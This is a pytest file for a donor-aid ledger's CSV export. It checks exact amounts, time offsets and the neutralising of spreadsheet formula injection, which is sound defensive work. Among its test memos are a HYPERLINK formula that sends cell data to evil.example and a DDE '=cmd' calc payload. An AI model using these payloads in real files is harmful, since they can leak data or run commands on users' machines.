"""The CSV export: one row per posting, exact amounts, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections import defaultdict
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aidledger import (
    Account,
    AccountType,
    Fund,
    InvalidArgument,
    InvalidTime,
    JournalEntry,
    Ledger,
    Money,
    Posting,
    Window,
    currency,
)
from aidledger.exports.beancount import ExportSummary
from aidledger.exports.csv import COLUMNS, export_csv, neutralise
from aidledger.exports.narration import describe
from tests.exports.conftest import COMMA_MEMO, HOSTILE_MEMOS, almaty, totals_of

NUMERIC = {"entry_seq", "line", "amount"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def export(ledger: Ledger, **options: Any) -> tuple[list[dict[str, str]], ExportSummary, str]:
    out = io.StringIO(newline="")
    summary = export_csv(ledger, out, **options)
    text = out.getvalue()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]], summary, text


def original(cell: str) -> str:
    """What a reader recovers from a text cell: the cell without the one ``'`` the export may have added."""
    return cell[1:] if cell.startswith("'") else cell


def sums(rows: list[dict[str, str]]) -> dict[tuple[str, str], tuple[Decimal, str]]:
    found: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    units: dict[tuple[str, str], str] = {}
    for row in rows:
        key = (original(row["account"]), original(row["fund"]))
        found[key] += Decimal(row["amount"])
        units[key] = original(row["unit"])
    return {key: (value, units[key]) for key, value in found.items() if value != 0}


@pytest.fixture
def exported(aid_ledger: Ledger) -> tuple[Ledger, list[dict[str, str]], ExportSummary]:
    rows, summary, _ = export(aid_ledger)
    return aid_ledger, rows, summary


class TestRows:
    def test_one_row_per_posting_summing_to_the_trial_balance(
        self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]
    ) -> None:
        """Read back with csv.reader, the amounts per account and fund are the trial balance exactly."""
        ledger, rows, summary = exported
        posted = list(ledger.entries())
        assert len(rows) == summary.postings == sum(len(p.entry.postings) for p in posted)
        assert summary.entries == summary.transactions == len(posted)
        assert (summary.format, summary.assertions) == ("csv", 0)
        assert sums(rows) == totals_of(ledger.trial_balance())

    def test_rows_carry_the_entry_and_posting(
        self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]
    ) -> None:
        """Each row has its entry's fields, its posting's account, fund, unit, signed amount and side."""
        ledger, rows, _ = exported
        by_entry: dict[str, list[dict[str, str]]] = defaultdict(list)
        for row in rows:
            by_entry[row["entry_id"]].append(row)
        for posted in ledger.entries():
            entry, found = posted.entry, by_entry[posted.id]
            assert [int(r["line"]) for r in found] == list(range(1, len(entry.postings) + 1))
            for row, posting in zip(found, entry.postings, strict=True):
                assert int(row["entry_seq"]) == posted.seq
                assert dt.datetime.fromisoformat(row["effective_at"]) == entry.effective_at
                assert row["effective_at"] == entry.effective_at.isoformat()
                assert dt.datetime.fromisoformat(row["recorded_at"]) == posted.recorded_at
                assert original(row["memo"]) == entry.memo
                assert original(row["actor"]) == entry.actor
                assert (original(row["kind"]), original(row["account"])) == (entry.kind, posting.account.code)
                assert (original(row["fund"]), original(row["unit"])) == (posting.fund.code, posting.account.unit.code)
                assert original(row["account_type"]) == posting.account.type.value
                assert original(row["idempotency_key"]) == (entry.idempotency_key or "")
                assert original(row["source"]) == (entry.source or "")
                assert original(row["reverses"]) == (entry.reverses or "")
                assert json.loads(row["tags"]) == dict(entry.tags)
                said = describe(entry)
                assert (original(row["payee"]), original(row["narration"])) == (said.payee or "", said.narration)
                amount = Decimal(row["amount"])
                assert amount == posting.amount.value
                assert amount.as_tuple().exponent == -posting.account.unit.exponent
                assert row["side"] == ("debit" if amount > 0 else "credit")

    def test_times_carry_the_offset_of_the_entrys_zone(
        self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]
    ) -> None:
        """Effective times are ISO 8601 with the entry's own offset; the zone name is its own column."""
        _, rows, _ = exported
        zones = {(r["effective_at"][19:], r["time_zone"]) for r in rows}
        assert ("+06:00", "Asia/Almaty") in zones
        assert ("+02:00", "Europe/Berlin") in zones
        assert ("+05:00", "'+05:00") in zones  # a fixed-offset zone name starts with '+': neutralised
        late = next(r for r in rows if original(r["idempotency_key"]) == "don:2")
        assert late["effective_at"] == "2020-04-02T01:30:00+06:00"

    def test_amounts_are_exact_decimal_strings(
        self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]
    ) -> None:
        """Amounts keep their unit's decimals and are never neutralised, negative ones included."""
        _, rows, _ = exported
        amounts = {(r["unit"], r["amount"]) for r in rows}
        assert ("KZT", "-250000.55") in amounts
        assert ("RELIEF-GOODS", "12.345") in amounts
        assert ("FOOD-PACKAGE", "-30") in amounts
        assert all(not r["amount"].startswith("'") for r in rows)


class TestFormulaInjection:
    def test_hostile_memos_are_neutralised(self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]) -> None:
        """Every memo a spreadsheet could run starts with a quote in the file; the rest are unchanged."""
        _, rows, _ = exported
        memos = {r["memo"] for r in rows}
        for memo in (
            '=HYPERLINK("http://evil.example/?x="&A1, "click")',
            "+1",
            "-2",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            " =cmd|' /C calc'!A0",
            "'quoted already",
        ):
            assert memo in HOSTILE_MEMOS
            assert "'" + memo in memos
            assert memo not in memos
        assert COMMA_MEMO in memos
        assert "trailing space " in memos

    def test_no_text_cell_starts_a_formula(self, exported: tuple[Ledger, list[dict[str, str]], ExportSummary]) -> None:
        """No text cell, in any column, starts with = + - @ tab or CR (even after leading white space)."""
        _, rows, _ = exported
        for row in rows:
            for column, cell in row.items():
                if column not in NUMERIC:
                    assert not cell.lstrip(" \n").startswith(TRIGGERS), (column, cell)

    def test_every_text_column_is_neutralised(self, tmp_path: Path) -> None:
        """Actor, source, idempotency key and tags are neutralised like the memo."""
        kzt = currency("KZT")
        with Ledger.open(f"sqlite:///{tmp_path / 'hostile.db'}") as ledger:
            bank = ledger.add_account(Account("Assets:Bank:KZT", AccountType.ASSET, kzt))
            income = ledger.add_account(Account("Revenue:Donations:KZT", AccountType.REVENUE, kzt))
            fund = ledger.add_fund(Fund("GENERAL"))
            money = Money("10.00", kzt)
            ledger.post(
                JournalEntry(
                    kind="donation",
                    effective_at=almaty(4, 1),
                    postings=[Posting.debit(bank, fund, money), Posting.credit(income, fund, money)],
                    actor="=1+2",
                    memo="@x",
                    idempotency_key="-4",
                    source="+3",
                    tags={"note": "=x"},
                )
            )
            rows, _, _ = export(ledger)
        for row in rows:
            assert (row["actor"], row["memo"], row["idempotency_key"], row["source"]) == ("'=1+2", "'@x", "'-4", "'+3")
            assert json.loads(row["tags"]) == {"note": "=x"}  # inside a JSON object, which starts with '{'

    def test_memos_round_trip_through_a_file(self, aid_ledger: Ledger, tmp_path: Path) -> None:
        """Written to a file opened with newline='', memos with commas, quotes and line breaks read back exactly."""
        path = tmp_path / "ledger.csv"
        with path.open("w", encoding="utf-8", newline="") as out:
            export_csv(aid_ledger, out)
        with path.open(encoding="utf-8", newline="") as source:
            rows = list(csv.DictReader(source))
        read = {original(r["memo"]) for r in rows}
        assert set(HOSTILE_MEMOS) | {COMMA_MEMO} <= read
        assert {p.entry.memo for p in aid_ledger.entries()} == read


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=40))
def test_neutralise_is_safe_and_reversible(text: str) -> None:
    """A neutralised cell never starts a formula, and removing one leading quote gives the text back."""
    cell = neutralise(text)
    assert not cell.lstrip(" \t\r\n").startswith(TRIGGERS)
    assert original(cell) == text
    assert cell == text or cell == "'" + text


class TestSnapshot:
    def test_as_of_and_known_at(self, aid_ledger: Ledger) -> None:
        """The cut-offs select the same postings as the ledger's own trial balance does."""
        cut = almaty(4, 30, 23, 59)
        rows, summary, _ = export(aid_ledger, window=Window(as_of=cut))
        assert sums(rows) == totals_of(aid_ledger.trial_balance(as_of=cut))
        assert all(dt.datetime.fromisoformat(r["effective_at"]) <= cut for r in rows)
        assert summary.window.as_of == cut
        known = list(aid_ledger.entries())[14].recorded_at
        rows, summary, _ = export(aid_ledger, window=Window(known_at=known))
        assert sums(rows) == totals_of(aid_ledger.trial_balance(known_at=known))
        assert summary.window.known_at == known

    def test_empty_ledger_has_the_header_only(self) -> None:
        with Ledger.open("sqlite://") as ledger:
            rows, summary, text = export(ledger)
        assert (rows, summary.postings) == ([], 0)
        assert text == ",".join(COLUMNS) + "\r\n"

    def test_bad_arguments(self) -> None:
        """A non-Ledger, a non-stream or a naive time raise InvalidArgument (InvalidTime for times)."""
        with Ledger.open("sqlite://") as ledger:
            with pytest.raises(InvalidArgument, match="expected a Ledger"):
                export_csv("ledger.db", io.StringIO())  # type: ignore[arg-type]
            with pytest.raises(InvalidArgument, match="text stream"):
                export_csv(ledger, b"")  # type: ignore[arg-type]
            with pytest.raises(InvalidTime, match="known_at"):
                export_csv(ledger, io.StringIO(), window=Window(known_at=dt.datetime(2020, 5, 1)))
